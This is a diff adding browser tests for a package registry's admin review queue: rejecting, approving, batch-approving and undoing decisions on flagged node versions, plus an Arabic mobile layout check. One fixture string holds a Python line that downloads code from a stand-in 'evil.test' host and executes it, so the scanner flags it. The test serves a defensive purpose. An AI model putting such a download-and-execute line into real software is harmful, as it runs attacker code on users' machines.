@@ -1,9 +1,37 @@
+import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import type { Page } from 'playwright-core'
+import { createPublisherFor, createTokenFor } from '../server/src/operator/publishers.ts'
+import { publish } from '../server/test/command-line-client.ts'
+import { buildPack } from '../server/test/pack.ts'
 import { menuOf, signUp } from './people.ts'
-import { useProduct } from './product.ts'
+import { type Product, useProduct } from './product.ts'
 
-const it = useProduct()
+const it = useProduct({}, {}, fillQueue)
+const waiting = 200
+const nodeId = 'soft-blur'
+const suspicious = 'import requests\n\nexec(requests.get("https://evil.test/code").text)\n'
+
+/** A queue of which the first was found suspicious by the real pipeline; the others stand in the database. */
+async function fillQueue({ world, apiUrl }: Product): Promise<void> {
+  const { deps } = world
+  await createPublisherFor(deps, {
+    id: 'lumen',
+    name: 'Lumen',
+    description: '',
+    ownerEmail: 'owner@lumen.test',
+  })
+  const token = await createTokenFor(deps, 'lumen', 'queue')
+  for (const [version, files] of Object.entries({ '1.0.0': {}, '1.1.0': { 'helper.py': suspicious } })) {
+    const archive = buildPack({ id: nodeId, version, files })
+    const node = { name: 'Soft blur', description: 'Blurs pictures softly.' }
+    await publish({ apiUrl, publisherId: 'lumen', nodeId, token, version, node, archive })
+    await world.runJobs()
+  }
+  for (let count = 1; count < waiting; count++) {
+    await world.given.version({ node_id: nodeId, version: `2.${count}.0`, status: 'flagged' })
+  }
+}
 
 /** Signs somebody up who is an admin from then on. */
 async function signUpAdmin(page: Page): Promise<void> {
@@ -15,10 +43,19 @@ async function signUpAdmin(page: Page): Promise<void> {
     .execute()
 }
 
+async function countOf(status: 'flagged' | 'active' | 'banned'): Promise<number> {
+  const rows = await it.product.world.deps.db
+    .selectFrom('node_versions')
+    .select('id')
+    .where('status', '=', status)
+    .execute()
+  return rows.length
+}
+
 test('an admin comes to the dashboard by the menu; others are refused in words, and strangers log in first', async () => {
   const { page: ofStranger } = await it.product.visit()
-  await ofStranger.goto('/admin')
-  await ofStranger.waitForURL('**/auth/login?fromUrl=%2Fadmin')
+  await ofStranger.goto('/admin/nodeversions')
+  await ofStranger.waitForURL('**/auth/login?fromUrl=%2Fadmin%2Fnodeversions')
 
   const { page } = await it.product.visit()
   await signUp(page, '/account')
@@ -32,4 +69,73 @@ test('an admin comes to the dashboard by the menu; others are refused in words, 
   await ofAdmin.getByRole('link', { name: 'Admin Dashboard' }).click()
   await ofAdmin.getByRole('heading', { level: 1, name: 'Admin Dashboard' }).waitFor()
   await it.product.picture(ofAdmin, 'admin')
+})
+
+test('an admin clears a queue of 200 versions by keyboard, one by one and many at once, and takes decisions back', async () => {
+  const { page } = await it.product.visit()
+  await signUpAdmin(page)
+  await page.goto('/admin/nodeversions')
+  await page.getByText('200 versions').waitFor()
+  await page.getByText('helper.py').first().waitFor()
+  await page.locator('.code-lines tr[data-picked]').waitFor()
+  await it.product.picture(page, 'review-queue')
+
+  const done = (text: string) => page.getByRole('region', { name: 'What became' }).getByText(text).waitFor()
+  await page.keyboard.press('r')
+  await page.getByRole('dialog').getByLabel('Reason').fill('It runs what it downloads.')
+  await page.keyboard.press('Enter')
+  await page.getByText('199 versions').waitFor()
+  for (const left of [198, 197]) {
+    await page.keyboard.press('a')
+    await page.getByRole('dialog').waitFor()
+    await page.keyboard.press('Enter')
+    await page.getByText(`${left} versions`).waitFor()
+  }
+  await done('1 of 1 done')
+  await page.getByText('A new admin token was made').waitFor()
+  assert.deepEqual([await countOf('banned'), await countOf('active')], [1, 3])
+
+  await page.keyboard.press('Shift+ArrowDown')
+  await page.keyboard.press('Shift+ArrowDown')
+  await page.getByText('3 selected').waitFor()
+  await page.keyboard.press('a')
+  await page.keyboard.press('Enter')
+  await done('3 of 3 done')
+  await it.product.picture(page, 'review-queue-batch')
+  await page.keyboard.press('u')
+  await page.getByRole('dialog').getByText('3 things are affected').waitFor()
+  await page.keyboard.press('Enter')
+  await page.getByText('197 versions').waitFor()
+  await page.waitForFunction(() => !document.body.textContent?.includes('On its way'))
+  assert.equal(await countOf('flagged'), 197)
+
+  for (const left of [100, 0]) {
+    const open = left === 100 ? 97 : 100
+    await page.getByRole('button', { name: `Select all ${open}` }).waitFor()
+    await page.keyboard.press('*')
+    await page.getByText(`${open} selected`).waitFor()
+    await page.keyboard.press('a')
+    await page.getByRole('dialog').waitFor()
+    await page.keyboard.press('Enter')
+    await page
+      .getByText(left === 100 ? '100 versions' : 'Nothing waits here.')
+      .first()
+      .waitFor()
+  }
+  assert.deepEqual([await countOf('banned'), await countOf('active'), await countOf('flagged')], [1, 200, 0])
+})
+
+test('in Arabic, in the dark and on a phone the queue is read from the right and nothing is cut off', async () => {
+  const { page } = await it.product.visit({
+    colorScheme: 'dark',
+    viewport: { width: 390, height: 844 },
+    hasTouch: true,
+  })
+  await signUpAdmin(page)
+  await page.goto('/ar/admin/nodeversions?status=banned,active')
+  await page.getByRole('heading', { level: 1, name: 'قائمة المراجعة' }).waitFor()
+  await page.getByRole('button', { name: 'قبول' }).first().waitFor()
+  await it.product.picture(page, 'review-queue-ar-phone')
+  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
+  assert.ok(overflow <= 0, `${overflow} px wider than the screen`)
 })
